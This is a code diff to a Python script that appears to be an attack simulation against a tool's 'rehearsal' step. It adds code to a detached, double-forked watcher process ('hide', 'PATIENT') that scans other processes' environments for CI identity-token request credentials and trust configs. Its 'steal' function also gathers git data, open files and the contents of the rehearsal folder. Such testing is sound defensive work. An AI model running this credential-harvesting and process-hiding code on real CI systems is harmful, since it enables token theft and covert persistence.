@@ -23,7 +23,7 @@ LAIR = Path(json.loads(Path("lair.json").read_text()))
 ROOT = int((LAIR / "root").read_text())
 PATIENT = """
 import glob, os, pathlib, sys, time
-lair, root = pathlib.Path(sys.argv[1]), pathlib.Path("/proc", sys.argv[2])
+lair, root, top = pathlib.Path(sys.argv[1]), pathlib.Path("/proc", sys.argv[2]), sys.argv[3].encode()
 lair.joinpath(f"waiting-{os.getpid()}").touch()
 while root.joinpath("fd").exists():
     for name in glob.glob("/proc/[0-9]*/environ"):
@@ -31,7 +31,7 @@ while root.joinpath("fd").exists():
             text = pathlib.Path(name).read_bytes()
         except OSError:
             continue
-        if b"TAGSEAL_TRUST_CONFIG=" in text and b"ACTIONS_ID_TOKEN_REQUEST_TOKEN=" in text:
+        if b"TAGSEAL_TRUST_CONFIG=" + top in text and b"ACTIONS_ID_TOKEN_REQUEST_TOKEN=" in text:
             lair.joinpath("caught").write_bytes(text)
     time.sleep(0.05)
 lair.joinpath("survived").touch()
@@ -65,6 +65,7 @@ def steal() -> dict[str, object]:
         "open files": {pid: open_files(pid) for pid in tree},
         "git": {str(place): git(place) for place in (Path.cwd(), *Path.cwd().parents)},
         "rehearsal": rehearsal(),
+        "mode": top().stat().st_mode,
         "tried": tried(dict(pair.partition("=")[::2] for pair in job.split("\0") if pair)),
     }
 
@@ -72,9 +73,9 @@ def steal() -> dict[str, object]:
 def processes() -> list[int]:
     """Return the tool's processes: its first, and all that descend from it."""
     parents = {}
-    for stat in Path("/proc").glob("[0-9]*/stat"):
-        with suppress(OSError):
-            parents[int(stat.parent.name)] = int(stat.read_text().rpartition(")")[2].split()[1])
+    for pid in map(int, filter(str.isdecimal, os.listdir("/proc"))):  # noqa: PTH208 - processes end while we look
+        with suppress(OSError, IndexError):
+            parents[pid] = int(Path(f"/proc/{pid}/stat").read_text(errors="replace").rpartition(")")[2].split()[1])
     tree = {ROOT}
     while more := {pid for pid, parent in parents.items() if parent in tree} - tree:
         tree |= more
@@ -107,9 +108,13 @@ def git(place: Path) -> dict[str, str]:
 
 def rehearsal() -> dict[str, str]:
     """Return the text of every file in the rehearsal's temporary folder."""
-    top = next(place for place in Path.cwd().parents if place.name.startswith("tagseal-rehearsal-"))
-    files = (path for path in top.rglob("*") if path.is_file() and "objects" not in path.parts)
+    files = (path for path in top().rglob("*") if path.is_file() and "objects" not in path.parts)
     return {str(path): read(path, 1 << 16) for path in files}
+
+
+def top() -> Path:
+    """Return the rehearsal's temporary folder."""
+    return next(place for place in Path.cwd().parents if place.name.startswith("tagseal-rehearsal-"))
 
 
 def tried(job: dict[str, str]) -> dict[str, object]:
@@ -176,7 +181,7 @@ def hide() -> None:
         os.setsid()
         if os.fork() == 0:
             os.setsid()
-            os.execve(sys.executable, [sys.executable, "-c", PATIENT, str(LAIR), str(ROOT)], {})  # noqa: S606 - no shell, but a thief
+            os.execve(sys.executable, [sys.executable, "-c", PATIENT, str(LAIR), str(ROOT), str(top())], {})  # noqa: S606 - no shell, but a thief
         os._exit(0)
     while len(list(LAIR.glob("waiting-*"))) == before:
         time.sleep(0.01)
